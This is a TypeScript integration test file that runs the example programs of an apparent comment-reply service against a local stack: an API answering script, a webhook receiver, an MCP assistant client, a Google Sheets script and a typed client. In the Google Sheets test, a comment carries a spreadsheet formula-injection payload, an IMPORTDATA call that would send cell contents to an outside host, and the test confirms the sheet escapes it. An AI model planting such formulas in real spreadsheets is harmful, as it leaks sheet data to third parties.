/** The files of examples/, as they stand, against a stack: what each did is in the database. */
import { execFile } from "node:child_process";
import { cp, mkdtempDisposable, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, it } from "vitest";
import { addChannel } from "../../../scripts/builder/channel.ts";
import { installNames } from "../../../scripts/builder/names.ts";
import {
  approveAccess,
  connect,
  type Owner,
  setVideoReplies,
  signIn,
} from "../../../scripts/builder/owner.ts";
import { newComment } from "../../../scripts/builder/rows/comments.ts";
import { runScheduled } from "../../../scripts/journey/engine.ts";
import { until } from "../../../scripts/lib/until.ts";
import { type Stack, startStack } from "../../../scripts/stack/index.ts";
import { freePort, host } from "../../../scripts/stack/ports.ts";
import { runAppsScript } from "./apps-script.ts";
import { badWay } from "./bad-way.ts";
import { examples, run, start } from "./run.ts";

let stack: Stack;
let owner: Owner;
let channel: string;
beforeAll(async () => {
  stack = await startStack({ mail: false });
  await installNames(stack.sql);
  await stack.sql`delete from private.scheduled_jobs`;
  const made = await addChannel(stack, "Bread Notes");
  owner = await signIn(stack, "examples@rejoinder.test");
  await approveAccess(stack, owner, "enterprise");
  await connect(stack, owner, made);
  await setVideoReplies(owner, true);
  channel = made.channelId;
}, 180_000);
afterAll(() => stack?.stop());

const comment = (values: Parameters<typeof newComment>[2]) =>
  newComment(stack, { user: owner, channel }, values);

/** A comment that nothing answered. */
const unanswered = (text: string) => comment({ text_original: text, status_reason: "needs_answer" });

async function drafted(text: string): Promise<string> {
  const id = await comment({ text_original: text });
  await owner.client.rpc("write_reply", { p_id: id, p_text: "About ten minutes." }).throwOnError();
  return id;
}

async function keyFor(...scopes: string[]): Promise<string> {
  const made = await owner.client
    .rpc("create_program_key", { p_name: "Example", p_scopes: ["read", ...scopes] })
    .single()
    .throwOnError();
  return made.data.key;
}

const address = (name: "api" | "mcp") => `${stack.urls.api}/functions/v1/${name}`;

async function replyOf(id: string) {
  const [row] = await stack.sql<
    [{ reply_status: string | null; generated_reply: string | null; versions: number; programs: string[] }]
  >`
    select c.reply_status, c.generated_reply, (select count(*)::int from test.versions v where v.comment_row_id = c.id) as versions,
      array(select distinct e.program from public.reply_events e where e.comment_row_id = c.id and e.program is not null) as programs
    from test.comments c where c.id = ${id}`;
  return row;
}

it("answers what has the words, once, however bad the way to the API is", { timeout: 120_000 }, async () => {
  const asked = await unanswered("Do you cover shipping to Norway?");
  const other = await comment({
    ...{ text_original: "Which flour is it?", author_name: "@shipping", status_reason: "needs_answer" },
  });
  await using way = await badWay(address("api"), {
    ...{ GET: "out of order", PUT: "answer lost", POST: "too many" },
  });
  const reply = "We ship to every country; delivery takes a week.";
  const env = { REJOINDER_API: way.url, REJOINDER_KEY: await keyFor("answer", "approve") };
  const { code, out, err } = await run("answer-comments.mjs", ["shipping", reply], env);
  expect({ code, err }).toEqual({ code: 0, err: "" });
  expect(out.trim().split("\n").toSorted()).toEqual([
    'answered: "Do you cover shipping to Norway?"',
    'left alone, since it doesn\'t say so itself: "Which flour is it?"',
  ]);
  expect(await replyOf(asked)).toEqual({
    ...{ reply_status: "queue", generated_reply: reply, versions: 1, programs: ["Example"] },
  });
  expect((await replyOf(other))?.versions).toBe(0);
  const writes = way.requests.filter(({ method }) => method !== "GET");
  expect(writes.map(({ method }) => method)).toEqual(["PUT", "PUT", "POST", "POST"]);
  expect(new Set(writes.map(({ once }) => once)).size).toBe(2);
});

it("says what a key lacks, and does nothing", { timeout: 120_000 }, async () => {
  const asked = await unanswered("Is there a discount?");
  const env = { REJOINDER_API: address("api"), REJOINDER_KEY: await keyFor() };
  const { code, err } = await run("answer-comments.mjs", ["discount", "No."], env);
  expect(code).toBe(1);
  expect(err).toBe("The key lacks answer and approve. Create another one in Programs.\n");
  const unknown = { ...env, REJOINDER_KEY: `rj_${"0".repeat(48)}` };
  const refused = await run("answer-comments.mjs", ["discount", "No."], unknown);
  expect(refused.code).toBe(1);
  expect(refused.err).toMatch(/401 key_unknown: .+ \(request [0-9a-f-]{36}\)/);
  expect((await replyOf(asked))?.versions).toBe(0);
});

it("receives each event once, signed, also after it was started again", { timeout: 120_000 }, async () => {
  await using directory = await mkdtempDisposable(join(tmpdir(), "rejoinder-examples-"));
  const port = await freePort();
  const url = `http://${host}:${port}/`;
  const made = await owner.client.functions.invoke("manage-webhook", {
    body: {
      ...{ act: "create", name: "Example", url, format: "standard" },
      ...{ kinds: ["comment.waiting"], channels: null },
    },
  });
  if (made.error) throw made.error;
  const receiver = async () => {
    const env = { WEBHOOK_SECRET: made.data.secret, PORT: String(port) };
    const started = start("webhook-receiver.mjs", [], env, directory.path);
    await until(() => (started.said().out.includes("Listening") ? true : undefined), 30_000);
    return started;
  };
  const kept = async () =>
    (await readFile(join(directory.path, "events.jsonl"), "utf8"))
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line));
  const delivered = async () => {
    const { data } = await owner.client.rpc("webhook_deliveries", { p_webhook: made.data.id }).throwOnError();
    return data;
  };

  const first = await receiver();
  const id = await drafted("How long does it rest?");
  await runScheduled(stack, "send-webhooks");
  await until(() => (first.said().out.includes("A comment waits: ") ? true : undefined));
  expect((await kept()).map(({ type, data }) => [type, data.comment.id])).toEqual([["comment.waiting", id]]);
  expect(await delivered()).toMatchObject([{ state: "delivered", answer_status: 204 }]);
  const forged = await fetch(url, { method: "POST", body: "{}", headers: { "webhook-id": "1" } });
  expect(forged.status).toBe(401);
  first.child.kill();
  await first.ended;

  const second = await receiver();
  const [line] = await delivered();
  await owner.client
    .rpc("resend_webhook", { p_webhook: made.data.id, p_delivery: line?.id ?? 0 })
    .throwOnError();
  await runScheduled(stack, "send-webhooks");
  expect(await kept()).toHaveLength(1);
  expect(await delivered()).toMatchObject([{ state: "delivered", answer_status: 204 }]);
  expect(second.said().err).toBe("");
  second.child.kill();
  await second.ended;
});

it("leads an assistant's client to the tools, by the file that assistants read", {
  timeout: 120_000,
}, async () => {
  const id = await unanswered("What is a banneton?");
  const env = { REJOINDER_MCP: address("mcp"), REJOINDER_KEY: await keyFor("answer") };
  const tools = await run("assistant.mjs", [], env);
  expect(tools).toMatchObject({ code: 0, err: "" });
  expect(tools.out).toContain("propose_reply: Writes or rewrites the draft of a comment.");
  const asked = { comment_id: id, version: 0, text: "A basket for the dough." };
  const proposed = await run("assistant.mjs", ["propose_reply", JSON.stringify(asked)], env);
  expect(proposed).toMatchObject({ code: 0, err: "" });
  expect(await replyOf(id)).toMatchObject({
    ...{ reply_status: "draft", generated_reply: "A basket for the dough.", versions: 1 },
  });
  const refused = await run("assistant.mjs", ["approve_reply", `{"comment_id": "${id}", "version": 1}`], env);
  expect(refused.code).toBe(1);
});

it("fills a Google sheet, in which nothing that a viewer wrote is a formula", {
  timeout: 120_000,
}, async () => {
  const settings = { REJOINDER_API: address("api"), REJOINDER_KEY: await keyFor() };
  await drafted('=IMPORTDATA("https://example.com/?" & A1)');
  const { "Last month": days, Waiting: waiting } = runAppsScript(
    "google-sheet.gs",
    "updateRejoinder",
    settings,
  );
  const last = new Date(Date.UTC(new Date().getFullYear(), new Date().getMonth(), 0));
  expect(days?.[0]).toEqual(["Day", "Comments", "Replies", "Public replies", "Coverage in %"]);
  expect(days).toHaveLength(last.getUTCDate() + 1);
  expect(days?.at(-1)?.[0]).toBe(last.toISOString().slice(0, 10));
  const [{ count }] = await stack.sql<[{ count: number }]>`
    select count(*)::int as count from test.comments where tab = 'to_approve'`;
  expect(waiting).toHaveLength(count + 1);
  expect(waiting?.map((row) => row[4])).toContain('\'=IMPORTDATA("https://example.com/?" & A1)');
  const bad = { ...settings, REJOINDER_KEY: `rj_${"0".repeat(48)}` };
  expect(() => runAppsScript("google-sheet.gs", "updateRejoinder", bad)).toThrow("key_unknown: ");
});

it("has a client with the types of the reference, which holds it to them", { timeout: 240_000 }, async () => {
  await using directory = await mkdtempDisposable(join(tmpdir(), "rejoinder-typed-client-"));
  await cp(join(examples, "typed-client"), directory.path, { recursive: true });
  const command = (program: string, ...args: string[]) =>
    promisify(execFile)(program, args, {
      cwd: directory.path,
      env: { ...process.env, REJOINDER_API: address("api") },
    });
  await command("npm", "ci", "--no-audit", "--no-fund");
  await command("npm", "run", "generate");
  await command("npm", "run", "check");
  await drafted("Which oven do you use?");
  const waiting = await stack.sql<{ id: string }[]>`select id from test.comments where tab = 'to_approve'`;
  const env = { REJOINDER_API: address("api"), REJOINDER_KEY: await keyFor("approve") };
  const { code, out, err } = await run(join(directory.path, "waiting.ts"), [], env);
  expect({ code, err }).toEqual({ code: 0, err: "" });
  expect(out).toContain('"Which oven do you use?"');
  expect(out).toContain("Approved, and in the tab queued.");
  const approved = await stack.sql`
    select from test.comments where id = any (${waiting.map(({ id }) => id)}) and reply_status = 'queue'`;
  expect(approved).toHaveLength(1);
});
